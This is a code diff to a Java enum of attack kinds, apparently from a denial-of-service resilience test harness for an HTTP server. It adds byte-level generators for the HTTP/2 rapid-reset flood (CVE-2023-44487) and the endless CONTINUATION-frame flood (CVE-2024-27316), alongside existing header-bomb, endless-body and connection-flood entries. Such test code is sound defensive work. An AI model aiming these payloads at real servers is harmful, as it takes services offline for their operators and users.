@@ -38,6 +38,13 @@ public enum AttackKind {
 	/** Heads of HTTP/2 that are large when they are unpacked. */
 	HEADER_BOMB((paths) -> Script.once(50, FrameBytes.join(FrameBytes.preface(), FrameBytes.bomb(1, 5000)), true)),
 
+	/** Streams of HTTP/2 that are opened and reset at once (CVE-2023-44487). */
+	RAPID_RESETS((paths) -> Script.once(50, FrameBytes.join(FrameBytes.preface(), resets(paths)), true)),
+
+	/** A head of HTTP/2 that never ends (CVE-2024-27316). */
+	CONTINUATIONS((paths) -> Script.flood(20, FrameBytes.join(FrameBytes.preface(), FrameBytes.begin(1, paths.fast())),
+			FrameBytes.repeat(500, FrameBytes.frame(FrameBytes.CONTINUATION, 0, 1, (byte) 0)), true)),
+
 	/** Bodies without end. */
 	ENDLESS_BODIES((paths) -> Script.flood(20, post(paths) + "Transfer-Encoding: chunked\r\n\r\n",
 			"4000\r\n" + "x".repeat(0x4000) + "\r\n", true)),
@@ -47,6 +54,9 @@ public enum AttackKind {
 
 	/** More connections than there may be, each with a request. */
 	MANY_CONNECTIONS((paths) -> Script.once(500, get(paths.fast()), true));
+
+	/** More than may be reset in half a minute. */
+	private static final int RESETS = 1000;
 
 	private static final int STREAMS = 10;
 
@@ -87,6 +97,13 @@ public enum AttackKind {
 			.mapToObj((i) -> FrameBytes.get(2 * i + 1, paths.large()))
 			.toArray(byte[][]::new);
 		return FrameBytes.join(FrameBytes.preface(FrameBytes.INITIAL_WINDOW_SIZE, 0), FrameBytes.join(streams));
+	}
+
+	private static byte[] resets(Paths paths) {
+		byte[][] resets = IntStream.range(0, RESETS)
+			.mapToObj((i) -> FrameBytes.join(FrameBytes.get(2 * i + 1, paths.slow()), FrameBytes.reset(2 * i + 1)))
+			.toArray(byte[][]::new);
+		return FrameBytes.join(resets);
 	}
 
 	/**
